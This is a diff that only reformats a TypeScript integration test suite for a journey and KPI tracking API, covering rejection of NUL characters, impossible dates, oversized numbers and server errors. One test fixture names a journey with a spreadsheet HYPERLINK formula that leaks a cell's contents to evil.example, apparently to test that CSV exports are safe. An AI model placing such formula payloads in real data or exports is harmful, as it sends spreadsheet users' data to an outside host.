@@ -54,7 +54,10 @@ beforeAll(async () => {
   const journey = await insertJourney(db, ids.org, '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', { accountableTeamId: ids.team });
   ids.journey = journey.id;
   ids.steps = journey.stepIds;
-  const actor = await createCaller(createInnerContext({ db, cookies: recordingCookies(null) })).auth.signIn({ email: 'lead@a.example', password: PASSWORD });
+  const actor = await createCaller(createInnerContext({ db, cookies: recordingCookies(null) })).auth.signIn({
+    email: 'lead@a.example',
+    password: PASSWORD,
+  });
   const lead = createCaller(createInnerContext({ db, actor }));
   const kpi = await lead.kpi.create(kpiFields(ids.journey, ids.team));
   // 200 answers in October at NPS −20 (20% promoters, 40% detractors): a negative figure in the export.
@@ -82,7 +85,11 @@ beforeAll(async () => {
     const s = app.listen(0, '127.0.0.1', () => resolve(s));
   });
   base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-  const res = await fetch(`${base}/trpc/auth.signIn`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: 'lead@a.example', password: PASSWORD }) });
+  const res = await fetch(`${base}/trpc/auth.signIn`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ email: 'lead@a.example', password: PASSWORD }),
+  });
   cookie = res.headers.get('set-cookie')!.split(';')[0]!;
 });
 afterAll(async () => {
@@ -103,15 +110,23 @@ async function call(path: string, input: unknown, opts: { method?: 'GET' | 'POST
   const res =
     opts.method === 'GET'
       ? await fetch(`${base}/trpc/${path}?input=${encodeURIComponent(JSON.stringify(input))}`, { headers })
-      : await fetch(`${base}/trpc/${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(input) });
+      : await fetch(`${base}/trpc/${path}`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', ...headers },
+          body: JSON.stringify(input),
+        });
   const text = await res.text();
   const body = JSON.parse(text) as { error?: { message: string; data: { issues: { path: string; message: string }[] } } };
   const issues = body.error?.data.issues ?? [];
   return { status: res.status, message: body.error?.message, paths: issues.map((i) => i.path), issues, text };
 }
 
-async function count(table: 'team' | 'journey' | 'system' | 'insight' | 'survey_response' | 'operational_event' | 'failure_point' | 'outcome' | 'initiative'): Promise<number> {
-  return (await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE organisation_id = ${ids.org}`.execute(database.db)).rows[0]!.n;
+async function count(
+  table: 'team' | 'journey' | 'system' | 'insight' | 'survey_response' | 'operational_event' | 'failure_point' | 'outcome' | 'initiative',
+): Promise<number> {
+  return (
+    await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE organisation_id = ${ids.org}`.execute(database.db)
+  ).rows[0]!.n;
 }
 
 const response = (i: number) => ({
@@ -135,7 +150,12 @@ describe('text with a NUL or half a surrogate pair', () => {
     ['journey.create', 'journey', { name: NUL, description: '', personas: [] }, 'name'],
     ['journey.create', 'journey', { name: 'Renew', description: '', personas: ['Owner', HALF] }, 'personas.1'],
     ['system.create', 'system', { name: 'Claims hub', description: NUL, ownerTeamId: null }, 'description'],
-    ['insight.create', 'insight', { kind: 'finding', title: 'Callbacks', body: NUL, source: 'interview', observedOn: '2026-11-01', confidence: 'high' }, 'body'],
+    [
+      'insight.create',
+      'insight',
+      { kind: 'finding', title: 'Callbacks', body: NUL, source: 'interview', observedOn: '2026-11-01', confidence: 'high' },
+      'body',
+    ],
   ] as const)('%s is refused with a 400 naming %s’s field, and nothing is stored', async (procedure, table, input, path) => {
     const before = await count(table);
     const answer = await call(procedure, input);
@@ -155,7 +175,17 @@ describe('text with a NUL or half a surrogate pair', () => {
   });
 
   it('in an event’s attribute is refused by row and field', async () => {
-    const event = { source: 'crm', externalId: 'e-1', type: 'contact', value: 1, customerId: null, journeyId: null, stepId: null, attributes: { queue: NUL }, occurredAt: '2026-11-01T10:00:00Z' };
+    const event = {
+      source: 'crm',
+      externalId: 'e-1',
+      type: 'contact',
+      value: 1,
+      customerId: null,
+      journeyId: null,
+      stepId: null,
+      attributes: { queue: NUL },
+      occurredAt: '2026-11-01T10:00:00Z',
+    };
     const answer = await call('ingest.operationalEvents', { events: [event] }, { token: bearer });
     expect(answer.status).toBe(400);
     expect(answer.paths).toEqual(['events.0.attributes.queue']);
@@ -169,12 +199,19 @@ describe('text with a NUL or half a surrogate pair', () => {
 });
 
 describe('dates outside what PostgreSQL holds, or any sane year', () => {
-  it.each(['+275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z', '0000-01-01T00:00:00Z'])('an ingested row dated %s is refused by row and field', async (occurredAt) => {
-    const answer = await call('ingest.surveyResponses', { responses: [response(9_000), { ...response(9_001), occurredAt }] }, { token: bearer });
-    expect(answer.status).toBe(400);
-    expect(answer.issues).toEqual([{ path: 'responses.1.occurredAt', message: 'must be between 1900-01-01 and 2999-12-31' }]);
-    expect(await count('survey_response')).toBe(200);
-  });
+  it.each(['+275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z', '0000-01-01T00:00:00Z'])(
+    'an ingested row dated %s is refused by row and field',
+    async (occurredAt) => {
+      const answer = await call(
+        'ingest.surveyResponses',
+        { responses: [response(9_000), { ...response(9_001), occurredAt }] },
+        { token: bearer },
+      );
+      expect(answer.status).toBe(400);
+      expect(answer.issues).toEqual([{ path: 'responses.1.occurredAt', message: 'must be between 1900-01-01 and 2999-12-31' }]);
+      expect(await count('survey_response')).toBe(200);
+    },
+  );
 
   it('an outcome due in year 0, an initiative implemented in year 1 and a scorecard for year 9999 are refused by field', async () => {
     const outcome = { journeyId: ids.journey, kpiId: ids.kpi, title: 'Fewer chasers', baseline: 10, target: 40, byDate: '0000-01-01' };
@@ -189,10 +226,33 @@ describe('dates outside what PostgreSQL holds, or any sane year', () => {
 
 describe('numbers beyond their column or beyond a finite figure', () => {
   it('a failure point costing a trillion (the old schema’s own maximum) and a team budget as large are refused by field', async () => {
-    const failurePoint = { journeyId: ids.journey, stepId: ids.steps[0]!, title: 'Chasing', description: '', expectation: 5, capability: 2, frequency: 10, frequencyPeriod: 'month', costBasis: 'contact', unitCost: 1e12 };
+    const failurePoint = {
+      journeyId: ids.journey,
+      stepId: ids.steps[0]!,
+      title: 'Chasing',
+      description: '',
+      expectation: 5,
+      capability: 2,
+      frequency: 10,
+      frequencyPeriod: 'month',
+      costBasis: 'contact',
+      unitCost: 1e12,
+    };
     expect(await call('failurePoint.create', failurePoint)).toMatchObject({ status: 400, paths: ['unitCost'] });
-    expect(await call('team.create', { name: 'Sales', purpose: '', capabilities: [], annualBudget: 1e12, spendingAuthority: 0 })).toMatchObject({ status: 400, paths: ['annualBudget'] });
-    expect(await call('team.update', { id: ids.team, version: 1e10, name: 'Claims', purpose: '', capabilities: [], annualBudget: 0, spendingAuthority: 0 })).toMatchObject({ status: 400, paths: ['version'] });
+    expect(
+      await call('team.create', { name: 'Sales', purpose: '', capabilities: [], annualBudget: 1e12, spendingAuthority: 0 }),
+    ).toMatchObject({ status: 400, paths: ['annualBudget'] });
+    expect(
+      await call('team.update', {
+        id: ids.team,
+        version: 1e10,
+        name: 'Claims',
+        purpose: '',
+        capabilities: [],
+        annualBudget: 0,
+        spendingAuthority: 0,
+      }),
+    ).toMatchObject({ status: 400, paths: ['version'] });
     expect(await count('failure_point')).toBe(0);
   });
 
@@ -201,10 +261,15 @@ describe('numbers beyond their column or beyond a finite figure', () => {
     expect(await call('kpi.update', { ...update, target: 1e308 })).toMatchObject({ status: 400, paths: ['target'] });
     expect(await call('kpi.update', { ...update, valuePerPoint: 1e308 })).toMatchObject({ status: 400, paths: ['valuePerPoint'] });
     expect(await call('kpi.update', { ...update, threshold: -1e308 })).toMatchObject({ status: 400, paths: ['threshold'] });
-    const stored = await database.db.selectFrom('kpi').select(['target', 'value_per_point', 'version']).where('id', '=', ids.kpi).executeTakeFirstOrThrow();
+    const stored = await database.db
+      .selectFrom('kpi')
+      .select(['target', 'value_per_point', 'version'])
+      .where('id', '=', ids.kpi)
+      .executeTakeFirstOrThrow();
     expect(stored).toEqual({ target: 30, value_per_point: 12_000, version: ids.kpiVersion });
     expect((await call('scorecard.get', { period: '2026-10-01' }, { method: 'GET' })).status).toBe(200);
-    for (const format of ['csv', 'pdf']) expect((await fetch(`${base}/export/scorecard.${format}?period=2026-10-01`, { headers: { cookie } })).status).toBe(200);
+    for (const format of ['csv', 'pdf'])
+      expect((await fetch(`${base}/export/scorecard.${format}?period=2026-10-01`, { headers: { cookie } })).status).toBe(200);
   });
 });
 
@@ -220,7 +285,9 @@ describe('a failure of the server’s own', () => {
       for (const format of ['csv', 'pdf']) {
         const res = await fetch(`${base}/export/scorecard.${format}?period=2026-10-01`, { headers: { cookie } });
         expect(res.status).toBe(500);
-        expect(await res.json()).toEqual({ error: { message: 'Something went wrong on our side. It has been logged.', code: 'INTERNAL_SERVER_ERROR' } });
+        expect(await res.json()).toEqual({
+          error: { message: 'Something went wrong on our side. It has been logged.', code: 'INTERNAL_SERVER_ERROR' },
+        });
       }
       expect(logged).toHaveLength(3);
       for (const line of logged) expect(line).toMatch(/"journeys",\s*0,\s*"kpis",\s*0,\s*"valueAtStake"/);
